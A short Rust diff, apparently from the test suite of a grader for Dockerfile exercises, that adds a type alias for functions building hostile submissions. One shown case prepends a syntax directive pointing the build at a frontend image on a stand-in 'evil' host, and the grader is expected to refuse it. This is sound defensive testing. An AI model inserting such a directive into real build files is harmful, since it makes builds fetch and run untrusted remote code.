@@ -34,8 +34,11 @@ pub struct Hostile {
     pub name: &'static str,
     pub id: &'static str,
     pub fate: Fate,
-    make: fn(&Room, &Path),
+    make: Make,
 }
+
+/// Makes a submission in its exercise's folder, or, where it is about none, in the class's.
+type Make = fn(&Room, &Path);
 
 /// A right answer to E01 whose Dockerfile goes on with this line.
 const LINES: [(&str, &str, Fate); 28] = [
@@ -77,7 +80,7 @@ const LINES: [(&str, &str, Fate); 28] = [
 /// All of them.
 pub fn all() -> Vec<Hostile> {
     let lines = LINES.map(|(name, _, fate)| Hostile { name, id: "E01", fate, make: with_line });
-    let others: [(&str, &str, Fate, fn(&Room, &Path)); 32] = [
+    let others: [(&str, &str, Fate, Make); 32] = [
         ("frontend", "E01", NotBuilt("syntax"), |_, folder| {
             edit(folder, "Dockerfile", |text| format!("# syntax=example.com/evil:1\n{text}"));
         }),
